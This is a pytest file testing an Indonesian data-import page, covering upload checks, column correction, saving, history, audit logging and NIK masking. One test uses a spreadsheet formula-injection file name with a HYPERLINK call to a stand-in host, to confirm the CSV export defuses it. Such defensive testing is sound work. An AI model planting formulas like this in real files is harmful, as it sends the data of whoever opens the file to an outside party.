"""AppTest of the Sinkronisasi Data page: upload, report, column correction, commit, history, and the
Kesenjangan figures that come from the imported list; lists are saved only in a real warehouse, by an admin, each
check and save in the audit log (issue 13)."""
import datetime as dt
import functools
import hashlib
import io
import shutil
from pathlib import Path

import duckdb
import polars as pl
import pytest
from conftest import TEST_NIK_KEY, open_app
from messy_lists import GURU_EXPECTED, add_participants, guru_list, real_warehouse, write_xlsx

from ucj import fmt
from ucj.accounts import Store, accounts_path
from ucj.ingest import rosters
from ucj.ingest.checks import NOTES, REASONS
from ucj.warehouse import write

DATA_DATE = dt.date(2025, 4, 15)
# the real warehouse holds all of Indonesia: the list is matched within Labuhanbatu ('Sidomulyo' is then one desa)
LABUHANBATU_REASONS = {code: n for code, n in GURU_EXPECTED["reasons"].items() if code != "desa_ambigu"}


def open_sinkronisasi(db_path, monkeypatch, login=None, **params) -> tuple[object, Path]:
    """The page (an AppTest) on warehouse db_path, opened with these address parameters (a real one after login)."""
    return open_app(monkeypatch, db_path, "sinkronisasi", login=login, **params), db_path


@functools.cache
def guru_xlsx() -> bytes:
    """The guru list as one workbook for the whole run (openpyxl stamps the time in each one it writes)."""
    buffer = io.BytesIO()
    write_xlsx(guru_list(), buffer)
    return buffer.getvalue()


def upload_guru(at, region: str):
    at.selectbox(key="impor_jenis").set_value("guru_honorer")
    at.selectbox(key="impor_wilayah").set_value(region)
    at.date_input(key="impor_tanggal").set_value(DATA_DATE)
    at.file_uploader(key="impor_berkas").upload("guru.xlsx", guru_xlsx()).run()
    assert not at.exception, at.exception
    return at


@pytest.fixture(scope="module")
def real_guru_template(real_template, tmp_path_factory):
    return real_warehouse(real_template, tmp_path_factory.mktemp("real_guru"), guru_list(), DATA_DATE)


@pytest.fixture()
def page(real_guru_template, tmp_path, monkeypatch):
    """The page on a real warehouse holding the messy guru list's participants, an admin logged in, the list uploaded
    and matched within Labuhanbatu."""
    monkeypatch.setenv("UCJ_NIK_KEY", TEST_NIK_KEY)
    path = tmp_path / "ucj.duckdb"
    shutil.copy(real_guru_template, path)
    at, path = open_sinkronisasi(path, monkeypatch, login="admin", wilayah="12.10", periode="2025-04")
    return upload_guru(at, "12.10"), path


def frame_with(at, column: str):
    """The first table on the page with this column."""
    return next(d.value for d in at.dataframe if column in d.value.columns)


def cards(at):
    return {m.label: m.value for m in at.metric}


def test_opens_labelled_demo_and_explains_itself(demo_copy, monkeypatch):
    at, _ = open_sinkronisasi(demo_copy, monkeypatch, wilayah="12.10.02")
    assert at.title[0].value == "Sinkronisasi data"
    assert any("Data demo" in c.value for c in at.caption)
    assert any("unggah berkas" in i.value and "Di gudang data demo hanya uji coba" in i.value for i in at.info)
    assert at.selectbox(key="impor_wilayah").value == "12.10"  # the regency of the sidebar's kecamatan
    assert any("Belum ada impor" in i.value for i in at.info)


def test_the_demo_checks_a_list_but_offers_no_save(demo_copy, monkeypatch):
    """Issue 13, finding 'real lists are accepted into the demo warehouse, hashed under its public key': the demo's
    page still shows the check (nothing is stored) and, where the save button was, says a real warehouse is needed."""
    add_participants(demo_copy, guru_list(), DATA_DATE)
    at, _ = open_sinkronisasi(demo_copy, monkeypatch, wilayah="12.10", periode="2025-04")
    upload_guru(at, "12.10")
    assert cards(at)["Baru"] == "12"
    assert [b for b in at.button if b.key == "impor_simpan"] == []
    assert [t for t in at.text_input if t.key == "impor_oleh"] == []
    assert rosters.DEMO_REFUSES in [i.value for i in at.info]


def test_report_matches_the_expected_counts(page):
    at, _ = page
    assert cards(at) == {
        "Baris dibaca": "35", "Tidak valid": fmt.number(GURU_EXPECTED["invalid"] - 1),
        "Ganda di berkas": "2", "Sudah di daftar": "0", "Sudah peserta": "3", "Baru": fmt.number(GURU_EXPECTED["new"] + 1)}
    sheet = [s for s in at.selectbox if s.label == "Lembar"][0]
    assert sheet.value == "Data Guru"
    reasons = frame_with(at, "Alasan")
    assert dict(zip(reasons["Alasan"], reasons["Baris"])) == {REASONS[c]: n for c, n in LABUHANBATU_REASONS.items()}
    rows = frame_with(at, "NIK")
    assert len(rows) == 35 and not rows["NIK"].str.fullmatch(r"\d{15,17}").any()
    assert "1210********0101" in set(rows["NIK"])
    # saving needs a name for the log
    assert at.button(key="impor_simpan").disabled


def test_correcting_a_column_changes_the_report(page):
    at, _ = page
    desa = [s for s in at.selectbox if s.label == "Desa/Kelurahan"][0]
    assert desa.value == "Desa/Kelurahan"
    desa.set_value("(tidak ada)").run()
    reasons = frame_with(at, "Alasan")
    assert dict(zip(reasons["Alasan"], reasons["Baris"]))[REASONS["desa_kosong"]] == 35  # the desa is checked on every row, whatever the NIK
    assert cards(at)["Baru"] == "0"


def test_commit_then_history_and_kesenjangan(page):
    """Saved in a real warehouse by an admin; the check and the save are in the audit log (issue 13, finding 'the
    import check is a lookup oracle ... nothing logged'): the file's hash, kind and rows, no file name."""
    at, path = page
    at.text_input(key="impor_oleh").input("Petugas Dinas").run()
    assert at.button(key="impor_simpan").label == "Simpan 15 orang ke gudang data"
    at.button(key="impor_simpan").click().run()
    assert not at.exception
    assert at.success[0].value.startswith("Tersimpan sebagai impor #2: 15 orang ditambah ke daftar Guru honorer")
    history = at.dataframe[-1].value
    assert list(history["Oleh"]) == ["Petugas Dinas", "penguji"] and list(history["Baru"]) == [12, 4]
    # the same file again: the page says it would change nothing
    at.file_uploader(key="impor_berkas_1").upload("guru.xlsx", guru_xlsx()).run()
    assert any("sudah diimpor sebagai impor #2" in i.value for i in at.info)
    con = duckdb.connect(str(path), read_only=True)  # the version the app published
    try:
        stored = con.execute("select count(*) from anggota_kelompok where impor_id = 2").fetchall()[0][0]
    finally:
        con.close()
    assert stored == 15
    sha = hashlib.sha256(guru_xlsx()).hexdigest()
    log = [(e.action, e.detail, e.rows) for e in Store(accounts_path(path)).log(name="admin") if e.action != "masuk"]
    # the check before the save counts its 35 rows; the save and the check of the same file uploaded again (which
    # shows the file is now imported) log them without counting them again
    assert log == [("periksa", f"{sha} guru_honorer 35 baris", 0), ("impor", f"{sha} guru_honorer 35 baris", 0),
                   ("periksa", f"{sha} guru_honorer 35 baris", 35)]
    at.switch_page("app_pages/kesenjangan.py").run()
    groups = frame_with(at, "Kelompok")
    guru = groups[groups["Kelompok"] == "Guru honorer"].iloc[0]
    assert (guru["Dalam daftar"], guru["Belum terlindungi"]) == (15, 12)


def codes_shown(at) -> set[str]:
    """Reason and note codes (nik_panjang_salah, ...) anywhere a person reads: text, tables, cards."""
    codes = set(REASONS) | set(NOTES)
    texts = [e.value for kind in ("markdown", "caption", "info", "success", "warning", "error", "subheader")
             for e in getattr(at, kind)]
    texts += [str(cell) for d in at.dataframe for column in d.value.columns
              for cell in [column, *d.value[column].tolist()]]
    texts += [m.value for m in at.metric] + [m.label for m in at.metric]
    return {code for code in codes for text in texts if code in text}


def test_reasons_are_sentences_on_the_page_and_in_the_report(page):
    """Issue 15 point 5: a person reads why a row was refused in a sentence, never a code such as nik_panjang_salah:
    not in the reasons' table, not in the rows, not in the per-row XLSX report."""
    from openpyxl import load_workbook

    at, _ = page
    assert codes_shown(at) == set()
    plan = at.session_state["impor_rencana_cache"][1]
    book = load_workbook(io.BytesIO(rosters.report_xlsx(plan)))
    cells = {str(c.value) for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None}
    assert {code for code in set(REASONS) | set(NOTES) for text in cells if code in text} == set()
    assert "NIK tidak 16 angka" in cells


def test_after_saving_the_page_shows_what_was_saved_and_no_dry_run(page):
    """Issue 15 point 5: after Simpan the page says 'Tersimpan' with what changed, the list, its group, region and
    date; no heading says 'uji coba' any more, and the saved state stays until another file is uploaded."""
    at, _ = page
    at.text_input(key="impor_oleh").input("Petugas Dinas").run()
    at.button(key="impor_simpan").click().run()
    assert not at.exception
    saved = ("Tersimpan sebagai impor #2: 15 orang ditambah ke daftar Guru honorer (Kabupaten Labuhanbatu), "
             "bertanggal 15 April 2025: 12 belum peserta dan 3 sudah peserta. 0 diubah, 0 dihapus (impor daftar "
             "hanya menambah orang). Tidak disimpan: 18 baris tidak valid dan 2 ganda di berkas.")
    assert [s.value for s in at.success] == [saved]
    headings = [h.value for h in at.subheader]
    assert "Tersimpan" in headings
    assert not [h for h in headings if "uji coba" in h.lower()]
    assert not [m for m in at.markdown if "uji coba" in m.value.lower()]
    assert cards(at) == {"Baris dibaca": "35", "Ditambah": "15", "Diubah": "0", "Dihapus": "0",
                         "Tidak disimpan": "20"}
    assert [b for b in at.button if b.key == "impor_simpan"] == []
    assert any(c.value.startswith("Berkas guru") and "Petugas Dinas" in c.value for c in at.caption)
    assert codes_shown(at) == set()
    at.run()  # any other click: the saved state stays
    assert [s.value for s in at.success] == [saved]


def test_riwayat_keeps_no_nik_of_a_file_name_and_its_csv_runs_no_formula(page, monkeypatch):
    """Issue 13, findings 'uploaded file names (which often contain a NIK or a name) are stored and shown in
    Riwayat' and 'Riwayat's CSV is open to formula injection': a name with a NIK is stored and shown as
    'daftar_#_budi.xlsx'; a name that is a formula leaves the CSV download as text (a leading apostrophe)."""
    from streamlit.delta_generator import DeltaGenerator

    at, path = page
    formula = '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik").csv'
    with write.session(path) as con, write.transaction(con) as w:  # published beside the open app, as a load is
        w.insert("impor_log", pl.DataFrame({
            "impor_id": [2], "jenis": ["guru_honorer"], "nama_file": [formula], "sha256_file": ["ab"],
            "oleh": ["penguji"], "diimpor_at": [dt.datetime(2025, 4, 20, 10)], "jumlah_baris": [1],
            "jumlah_baru": [1], "ringkasan_json": ["{}"]}))
    other = io.BytesIO()  # the same people in another workbook: another file, checked again under its own name
    write_xlsx(guru_list(), other)
    at.file_uploader(key="impor_berkas").upload("daftar_1210010101900001_budi.xlsx", other.getvalue()).run()
    at.text_input(key="impor_oleh").input("Petugas Dinas").run()
    at.button(key="impor_simpan").click().run()
    assert not at.exception
    downloads = {}
    original = DeltaGenerator.download_button

    def keep(self, label, data, file_name=None, *args, **kwargs):
        downloads[file_name] = data
        return original(self, label, data, file_name, *args, **kwargs)

    monkeypatch.setattr(DeltaGenerator, "download_button", keep)
    at.run()
    history = at.dataframe[-1].value
    assert list(history["Berkas"]) == ["daftar_#_budi.xlsx", "=HYPERLINK(\"http://contoh.invalid/?d=\"&A1,\"klik\").csv",
                                       "peserta_daftar.csv"]
    text = downloads["riwayat_impor.csv"]().decode("utf-8-sig")  # made on click (ui.components.downloads)
    assert "daftar_#_budi.xlsx" in text and "1210010101900001" not in text
    assert "\n'=HYPERLINK" not in text and ";\"'=HYPERLINK(\"\"http://contoh.invalid/?d=\"\"&A1,\"\"klik\"\").csv\";" in text


def test_an_unrecognised_nik_header_can_be_pointed_at(demo_copy, monkeypatch):
    at, _ = open_sinkronisasi(demo_copy, monkeypatch, wilayah="12.10")
    content = "Nomor Identitas;Nama;Desa\n1210011205850901;Satu;Sei Kasih\n1210011205850902;Dua;Sei Kasih\n"
    at.file_uploader(key="impor_berkas").upload("daftar.csv", content.encode()).run()
    assert not at.exception and not at.error
    assert any("Kolom NIK belum dikenali" in w.value for w in at.warning)
    nik = [s for s in at.selectbox if s.label == "NIK"][0]
    nik.set_value("Nomor Identitas").run()
    assert cards(at)["Baru"] == "2"


def test_an_admin_of_one_kabupaten_chooses_the_lists_origin_among_its_own(real_guru_template, tmp_path, monkeypatch):
    """Issue 13 point 2 (regions): an admin of Labuhanbatu is offered Labuhanbatu as the list's origin, not every
    kabupaten/kota of Indonesia nor 'Semua wilayah'; an all-Indonesia admin still has them all."""
    from conftest import TEST_PASSWORD, make_account

    monkeypatch.setenv("UCJ_NIK_KEY", TEST_NIK_KEY)
    path = tmp_path / "ucj.duckdb"
    shutil.copy(real_guru_template, path)
    make_account(path, "admin.lbh", "admin", ("12.10",))
    at = open_app(monkeypatch, path, "sinkronisasi", login=("admin.lbh", TEST_PASSWORD))
    assert at.selectbox(key="impor_wilayah").options == ["Kabupaten Labuhanbatu (12.10)"]


def test_an_all_indonesia_admin_may_match_across_every_kabupaten(page):
    """The other side of the test above: 'Semua wilayah di gudang data' and all 514 kabupaten/kota are offered."""
    at, _ = page
    options = at.selectbox(key="impor_wilayah").options
    assert (options[0], len(options)) == ("Semua wilayah di gudang data", 515)
